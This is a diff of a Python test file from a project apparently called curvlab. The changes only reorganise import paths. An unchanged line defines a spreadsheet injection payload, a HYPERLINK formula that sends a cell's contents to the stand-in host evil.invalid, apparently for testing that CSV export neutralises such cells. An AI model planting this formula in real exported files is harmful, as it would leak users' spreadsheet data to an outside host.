@@ -18,14 +18,14 @@ from curvlab.report.content import Answer, Content, Drawing, Section
 from curvlab.report.markdown import fenced
 from curvlab.report.theme import Look
 from curvlab.report.write import write_pages
-from curvlab.reproduce.grid.study import GridStudy
+from curvlab.reproduce.grid_study import GridStudy
 from curvlab.reproduce.run import reproduce
 from curvlab.reproduce.subjects import Options
-from curvlab.studies.compare import compare
+from curvlab.studies.compare.run import compare
 from curvlab.studies.setup import Setup
 from curvlab.studies.spreadsheet import csv_text, plain_cell
 from curvlab.studies.store import Store
-from curvlab.studies.train import TrainPlan, train
+from curvlab.studies.train.run import TrainPlan, train
 
 TINY = Setup(arch="6-4-3", data="synthetic[features=6,classes=3,examples=50]", batch=20, dtype="float64")
 FORMULA = '=HYPERLINK("http://evil.invalid/"&A1)'
